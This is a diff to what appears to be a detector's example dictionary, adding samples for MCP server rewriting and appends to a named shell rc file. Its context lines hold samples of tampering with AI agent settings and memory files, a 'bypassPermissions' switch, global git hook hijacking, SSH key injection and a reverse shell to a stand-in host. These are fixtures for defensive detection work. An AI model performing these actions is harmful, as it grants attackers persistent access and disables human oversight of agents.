@@ -31,12 +31,17 @@ EXAMPLES = {
     "agent_changes._HOME_SETTINGS": ["${HOME}/.claude/settings.local.json"],
     "agent_changes._MEMORY": ["tee --append ~/.claude/CLAUDE.md", ">> $HOME/.codex/AGENTS.md", ">>~/.gemini/GEMINI.md"],
     "agent_changes._MEMORY_FILE": ["~/x/SOUL.md'", 'HOME + "/IDENTITY.md"', "home() / 'MEMORY.md'", "~/CLAUDE.md`"],
+    "agent_changes._SERVERS_REWRITTEN": [
+        "for name, one in data['mcpServers'].items():\n    one['command'] = x",
+        "for (const each of Object.values(servers)) {\n  log(each);\n\n  each.url = x",
+    ],
     "agent_changes._SETTINGS_FILE": ["Path.home() / '.claude' / 'settings.json'", "~/.claude/settings.local.json"],
     "agent_changes._SWITCH": ["mode: 'bypassPermissions'", "--permission-mode=bypassPermissions"],
     "takeover._EVERY_REPOSITORY": [
         "git config --global core.hooksPath x",
         "GIT CONFIG --SYSTEM --add INIT.TEMPLATEDIR x",
     ],
+    "takeover._INTO_NAMED": [">> $rc", '>>"${FILE}"'],
     "takeover._KEYS_WRITTEN": ["ssh-ed25519 AAAAC3NzaC1l", "ecdsa-sha2-nistp256 AAAAE2VjZHNh"],
     "takeover._REMOTE": [
         "bash -i >& /dev/tcp/h.invalid/1",
